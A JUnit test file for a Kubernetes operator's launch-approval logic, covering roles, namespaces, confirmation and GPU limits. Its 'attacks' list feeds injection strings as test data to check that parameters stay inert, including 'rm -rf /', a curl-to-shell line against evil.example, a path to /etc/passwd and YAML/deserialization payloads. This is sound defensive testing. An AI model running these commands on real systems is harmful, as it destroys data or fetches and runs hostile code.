package dev.taskping.operator.launch.decision;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.taskping.crds.NamedReference;
import dev.taskping.crds.launch.Launch;
import dev.taskping.crds.launch.LaunchTemplateSpec;
import dev.taskping.operator.Yaml;
import dev.taskping.operator.launch.decision.LaunchDecision.Approved;
import dev.taskping.operator.launch.decision.LaunchDecision.Ask;
import dev.taskping.operator.launch.decision.LaunchDecision.Facts;
import dev.taskping.operator.launch.decision.LaunchDecision.Rejected;
import dev.taskping.operator.launch.parameter.RepliedTaskVariables;
import dev.taskping.testkit.Attack;
import dev.taskping.testkit.Attacker;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.TreeSet;
import java.util.function.BiConsumer;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

class LaunchDecisionTest {

    private static final Instant NOW = Instant.parse("2026-05-04T12:00:00Z");
    private static final RepliedTaskVariables TASK = new RepliedTaskVariables(
            "train", "some-uid", Map.of("checkpoint", "step-900", "evil", "$(TOKEN)", "long", "x".repeat(2_000)));

    private static final String EVALUATE =
            """
            parameters:
              - {name: note, type: string, pattern: '(?s).*', default: best, maxLength: 1024}
              - {name: hours, type: duration, default: 4h, atMost: 12h}
              - {name: memory, type: quantity, default: 8Gi, atMost: 64Gi}
            %s
            jobTemplate:
              metadata:
                labels: {team: ml}
                annotations: {taskping.dev/requested-by-user: system:admin}
                name: mine
                namespace: kube-system
              spec:
                activeDeadlineSeconds: $(params.hours.seconds)
                template:
                  spec:
                    restartPolicy: Never
                    serviceAccountName: trainer
                    securityContext: {runAsNonRoot: true}
                    volumes: [{name: data, emptyDir: {}}]
                    containers:
                      - name: main
                        image: registry.example.com/evaluate:1
                        command: [evaluate]
                        args: ['--note=$(params.note)', '$(params.note)', '$(params.note)$(params.note)(HOME)']
                        env: [{name: FROM, value: '$(task.name)'}]
                        resources: {limits: {nvidia.com/gpu: 2, memory: $(params.memory)}}
            """;

    private static LaunchSource.Found work(String more, Map<String, String> parameters) {
        return new LaunchSource.Found(
                "evaluate",
                new NamedReference("evaluate"),
                3,
                Yaml.read(EVALUATE.formatted(more), LaunchTemplateSpec.class),
                parameters);
    }

    private static Launch launch(String person, String status) {
        Launch launch = Yaml.read(
                """
                metadata: {name: cmd-1, namespace: ml, uid: launch-uid, creationTimestamp: '2026-05-04T11:59:59Z'}
                spec:
                  templateRef: {name: evaluate}
                  requestedBy: %s
                  cause: {commandId: '1', taskUid: some-uid, taskName: train}
                status: %s
                """
                        .formatted(person, status),
                Launch.class);
        launch.setKind("Launch");
        return launch;
    }

    private static LaunchDecision decide(Launch launch, LaunchSource work) {
        return LaunchDecision.of(new Facts(launch, work, List.of(), TASK, NOW));
    }

    private static LaunchDecision decide(String more, Map<String, String> parameters) {
        return decide(launch("{name: Mia, role: launcher, identity: 'telegram:1'}", "{}"), work(more, parameters));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            textBlock =
                    """
                    ''                                          | {name: Mia, role: launcher} | approved
                    ''                                          | {name: Mia, role: operator} | approved
                    ''                                          | {name: Mia, role: viewer}   | RoleNotAllowed
                    'access: {roles: [admin]}'                  | {name: Mia, role: operator} | RoleNotAllowed
                    'access: {roles: [viewer]}'                 | {name: Mia, role: viewer}   | approved
                    'access: {people: [Mia, Noor]}'             | {name: Mia, role: launcher} | approved
                    'access: {people: [Mia, Noor]}'             | {name: Mia, role: viewer}   | RoleNotAllowed
                    'access: {people: [Mia, Noor]}'             | {name: mia, role: admin}    | PersonNotAllowed
                    'access: {people: [Mia, Noor]}'             | {name: 'Міа', role: admin}  | PersonNotAllowed
                    'access: {people: [Mia, Noor]}'             | {name: 'Mia ', role: admin} | PersonNotAllowed
                    'access: {roles: [admin], people: [Mia]}'   | {name: Mia, role: operator} | RoleNotAllowed
                    'access: {roles: [admin], people: [Mia]}'   | {name: Mia, role: admin}    | approved
                    'access: {roles: [viewer], people: [Noor]}' | {name: Mia, role: viewer}   | PersonNotAllowed
                    ''                                          | {name: Mia, role: launcher, namespace: ml} | approved
                    ''                                          | {name: Mia, role: admin, namespace: ops} | NamespaceNotAllowed
                    'access: {roles: [viewer]}'                 | {name: Mia, role: admin, namespace: ops} | NamespaceNotAllowed
                    'access: {people: [Mia]}'                   | {name: Mia, role: admin, namespace: ops} | NamespaceNotAllowed
                    'access: {people: [ml/Mia]}'                | {name: Mia, role: admin, namespace: ops} | NamespaceNotAllowed
                    'access: {people: [Mia]}'                   | {name: Mia, role: launcher, namespace: ml} | approved
                    'access: {people: [ml/Mia]}'                | {name: Mia, role: launcher} | approved
                    'access: {people: [ops/Mia]}'               | {name: Mia, role: launcher, namespace: ops} | approved
                    'access: {people: [ops/Mia]}'               | {name: Mia, role: viewer, namespace: ops} | RoleNotAllowed
                    'access: {people: [ops/Mia]}'               | {name: Mia, role: admin}    | PersonNotAllowed
                    'windows: [{days: [Mon]}]'                  | {name: Mia, role: launcher} | approved
                    'windows: [{days: [Tue]}]'                  | {name: Mia, role: admin}    | OutsideWindows
                    'limits: {gpuHoursPerDay: 8}'               | {name: Mia, role: launcher} | approved
                    'limits: {gpuHoursPerDay: 7}'               | {name: Mia, role: launcher} | TooManyGpuHours
                    """)
    @Attack(
            by = Attacker.FOREIGN_MEMBER,
            tries = "to launch a template of another namespace",
            gets = "`NamespaceNotAllowed`, unless the template's `access.people` names them with their namespace")
    @Attack(
            by = Attacker.MEMBER,
            tries = "to launch a template with a look-alike of an admitted name",
            gets = "`PersonNotAllowed`")
    void launchIsDecidedByPersonAndWindow(String more, String person, String expected) {
        assertThat(word(decide(launch(person, "{}"), work(more, Map.of())))).isEqualTo(expected);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            textBlock =
                    """
                    {}                                                                                     | ask
                    {templateGeneration: 3, confirmation: {approved: true, by: {name: Mia, identity: 'telegram:1'}, at: now}}  | approved
                    {templateGeneration: 3, confirmation: {approved: true, by: {name: Other, identity: 'telegram:1'}, at: now}} | approved
                    {templateGeneration: 3, confirmation: {approved: false, by: {name: Mia, identity: 'telegram:1'}, at: now}} | Declined
                    {templateGeneration: 3, confirmation: {approved: true, by: {name: Mia, identity: 'telegram:2'}, at: now}}  | ConfirmedByAnother
                    {templateGeneration: 3, confirmation: {approved: true, by: {name: Mia}, at: now}}      | ConfirmedByAnother
                    {templateGeneration: 2, confirmation: {approved: true, by: {name: Mia, identity: 'telegram:1'}, at: now}}  | TemplateChanged
                    """)
    void onlyThePersonWhoAskedConfirms(String status, String expected) {
        Launch launch = launch("{name: Mia, role: launcher, identity: 'telegram:1'}", status);
        assertThat(word(decide(launch, work("confirm: true", Map.of())))).isEqualTo(expected);
    }

    @Test
    void questionSaysWhatWouldBeDone() {
        assertThat(decide("confirm: true", Map.of("note", "x", "hours", "90m")))
                .isInstanceOfSatisfying(Ask.class, ask -> assertThat(ask.question())
                        .isEqualTo(
                                "evaluate with hours=90m, memory=8Gi, note=x would use 2 GPUs for at most 1 h 30 min;"
                                        + " confirm or decline"));
    }

    @Test
    void refusedLaunchAsksForNoConfirmation() {
        assertThat(word(decide(
                        "{confirm: true, limits: {gpuHoursPerDay: 1}}"
                                .replaceAll("[{](.*)[}]", "$1")
                                .replace(", limits", "\nlimits"),
                        Map.of())))
                .isEqualTo("TooManyGpuHours");
    }

    @Test
    void quantitiesStayTextAndDurationsHaveSeconds() {
        assertThat(decide("", Map.of("hours", "1h30m", "memory", "16Gi")))
                .isInstanceOfSatisfying(Approved.class, approved -> {
                    JsonNode spec = approved.job().tree().get("spec");
                    assertThat(spec.get("activeDeadlineSeconds").isIntegralNumber())
                            .isTrue();
                    assertThat(spec.get("activeDeadlineSeconds").asLong()).isEqualTo(5_400);
                    assertThat(spec.at("/template/spec/containers/0/resources/limits/memory"))
                            .hasToString("\"16Gi\"");
                    assertThat(spec.at("/template/spec/containers/0/env/0/value")
                                    .asText())
                            .isEqualTo("train");
                    assertThat(approved.demand().gpus()).isEqualTo(2);
                    assertThat(approved.demand().hours()).contains(3.0);
                });
    }

    static Stream<String> attacks() {
        return Stream.of(
                "$(params.hours)",
                "$$(params.hours)",
                "$(HOME)",
                "$((HOME))",
                "${HOME}",
                "`id`",
                "; rm -rf / #",
                "' || curl evil.example | sh; '",
                "\", image: evil, x: \"",
                "}]}}}, spec: {hostNetwork: true}",
                "{\"image\": \"evil\"}",
                "[evil]",
                "a: &x {image: evil}\nb: *x",
                "- evil\n- worse",
                "!!java.lang.Runtime {}",
                "{{task.name}}",
                "%24(HOME)",
                "\\$(HOME)",
                "$",
                "a$",
                "$\u200B(HOME)",
                "$\u0000(HOME)",
                "＄(HOME)",
                "../../../etc/passwd",
                "true",
                "null",
                "~",
                "1e3",
                "privileged",
                "x".repeat(1_024));
    }

    /** Either it is refused, or it is text in the places where the template's author put it; the rest is as it was. */
    @ParameterizedTest
    @MethodSource("attacks")
    void valueChangesOnlyTheFieldsThatReferToIt(String value) {
        Approved harmless = (Approved) decide("", Map.of("note", "harmless"));
        if (decide("", Map.of("note", value)) instanceof Approved approved) {
            assertThat(differences(harmless.job().tree(), approved.job().tree()))
                    .isSubsetOf(
                            "/spec/template/spec/containers/0/args/0",
                            "/spec/template/spec/containers/0/args/1",
                            "/spec/template/spec/containers/0/args/2");
            JsonNode args = approved.job().tree().at("/spec/template/spec/containers/0/args");
            assertThat(args.get(0).isTextual()
                            && args.get(1).isTextual()
                            && args.get(2).isTextual())
                    .isTrue();
            assertThat(args.get(1).textValue()).isEqualTo(value);
            assertThat(args.toString()).as("what the kubelet would replace").doesNotContain("$(");
        }
    }

    @ParameterizedTest
    @CsvSource({
        "image, evil",
        "command, evil",
        "serviceAccountName, root",
        "namespace, kube-system",
        "securityContext, x",
        "volumes, x",
        "resourceClaims, x",
        "metadata.namespace, kube-system",
        "spec, x",
        "'note ', x",
        "Note, x",
        "params.note, x",
        "task.name, x"
    })
    void undeclaredParameterIsRefused(String name, String value) {
        assertThat(decide("", Map.of(name, value)))
                .isInstanceOfSatisfying(Rejected.class, rejected -> assertThat(rejected.message())
                        .contains("'" + name + "' is no parameter of this template; it has note, hours, memory"));
    }

    @Test
    void templateDoesNotDecideNameNamespaceAndOwner() {
        assertThat(decide("", Map.of())).isInstanceOfSatisfying(Approved.class, approved -> {
            JsonNode metadata = approved.job().tree().get("metadata");
            assertThat(metadata.get("name").asText()).startsWith("evaluate-");
            assertThat(metadata.get("namespace").asText()).isEqualTo("ml");
            assertThat(metadata.path("annotations").toString())
                    .isEqualTo("{\"taskping.dev/requested-by-person\":\"Mia\"}");
            assertThat(metadata.at("/ownerReferences/0/uid").asText()).isEqualTo("launch-uid");
            assertThat(metadata.at("/ownerReferences/0/blockOwnerDeletion").asBoolean())
                    .isFalse();
        });
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            textBlock =
                    """
                    {commandId: '1'} | {name: Mia, role: launcher}                 | requested-by-person | Mia
                    {commandId: '1'} | {name: Mia, role: launcher, namespace: ops} | requested-by-person | ops/Mia
                    {taskName: x}    | {name: 'oidc:mia', role: launcher}          | requested-by-user   | oidc:mia
                    null             | {name: 'oidc:mia', role: launcher}          | requested-by-user   | oidc:mia
                    """)
    void jobSaysWhoAsked(String cause, String requester, String annotation, String who) {
        Launch launch = Yaml.read(
                """
                metadata: {name: cmd-1, namespace: ml, uid: launch-uid, creationTimestamp: '2026-05-04T11:59:59Z'}
                spec: {templateRef: {name: evaluate}, requestedBy: %s, cause: %s}
                """
                        .formatted(requester, cause),
                Launch.class);
        launch.setKind("Launch");
        LaunchSource.Found source = new LaunchSource.Found(
                "evaluate",
                new NamedReference("evaluate"),
                3,
                Yaml.read(
                        "{access: {people: [Mia, ops/Mia, 'oidc:mia']}, jobTemplate: {spec: {template: {spec: {containers: [{name: main, image: none}]}}}}}",
                        LaunchTemplateSpec.class),
                Map.of());
        assertThat(decide(launch, source)).isInstanceOfSatisfying(Approved.class, approved -> assertThat(
                        approved.job().tree().at("/metadata/annotations"))
                .isEqualTo(new ObjectMapper().createObjectNode().put("taskping.dev/" + annotation, who)));
    }

    static Stream<Arguments> references() {
        return Stream.of(
                Arguments.of("args: ['$(task.outputs.checkpoint)']", "approved"),
                Arguments.of("env: [{name: A, value: '$(task.uid)/$(task.outputs.checkpoint)'}]", "approved"),
                Arguments.of("args: ['$(task.outputs.loss)']", "task train has no output 'loss'; it has checkpoint"),
                Arguments.of("args: ['$(task.outputs.evil)']", "'$(TOKEN)', which contains $("),
                Arguments.of("args: ['$(task.outputs.long)']", "which is longer than 1024 characters"),
                Arguments.of("args: ['$(task.namespace)']", "jobTemplate uses $(task.namespace)"),
                Arguments.of("args: ['$(params.nowhere)']", "jobTemplate uses $(params.nowhere)"),
                Arguments.of("args: ['$(params.note.seconds)']", "jobTemplate uses $(params.note.seconds)"),
                Arguments.of("image: $(task.outputs.checkpoint)", "where only parameters may stand"),
                Arguments.of("command: [sh, -c, $(task.outputs.checkpoint)]", "where only parameters may stand"),
                Arguments.of("workingDir: $(task.name)", "where only parameters may stand"),
                Arguments.of("env: [{name: $(task.name), value: x}]", "where only parameters may stand"),
                Arguments.of(
                        "env: [{name: A, valueFrom: {secretKeyRef: {name: $(task.name), key: k}}}]",
                        "where only parameters may stand"),
                Arguments.of("volumeMounts: [{name: a, subPath: $(task.name)}]", "where only parameters may stand"));
    }

    @ParameterizedTest
    @MethodSource("references")
    void taskVariablesAreAllowedInPlainTextOnly(String field, String expected) {
        LaunchTemplateSpec spec = Yaml.read(
                """
                parameters: [{name: note, type: string, pattern: '.*', default: a}]
                jobTemplate:
                  spec:
                    template:
                      spec:
                        restartPolicy: Never
                        containers: [{name: main, image: 'example.com/a:1'}]
                """,
                LaunchTemplateSpec.class);
        ObjectNode container = (ObjectNode) spec.jobTemplate().spec().at("/template/spec/containers/0");
        container.setAll(Yaml.read("{" + field + "}", ObjectNode.class));
        LaunchDecision decision = decide(
                launch("{name: Mia, role: launcher}", "{}"),
                new LaunchSource.Found("evaluate", new NamedReference("evaluate"), 3, spec, Map.of()));
        assertThat(decision instanceof Rejected rejected ? rejected.message() : word(decision))
                .contains(expected);
    }

    private static String word(LaunchDecision decision) {
        return switch (decision) {
            case Approved approved -> "approved";
            case Ask ask -> "ask";
            case Rejected rejected -> rejected.reason();
        };
    }

    /** Where two trees differ, as JSON pointers. */
    private static TreeSet<String> differences(JsonNode one, JsonNode other) {
        TreeSet<String> differences = new TreeSet<>();
        compare("", one, other, (place, what) -> differences.add(place));
        return differences;
    }

    private static void compare(String place, JsonNode one, JsonNode other, BiConsumer<String, String> report) {
        if (one.getNodeType() != other.getNodeType() || one.size() != other.size()) {
            report.accept(place, "shape");
        } else if (one.isObject()) {
            one.properties()
                    .forEach(field -> compare(
                            place + "/" + field.getKey(), field.getValue(), other.path(field.getKey()), report));
        } else if (one.isArray()) {
            for (int i = 0; i < one.size(); i++) {
                compare(place + "/" + i, one.get(i), other.get(i), report);
            }
        } else if (!one.equals(other)) {
            report.accept(place, "value");
        }
    }
}
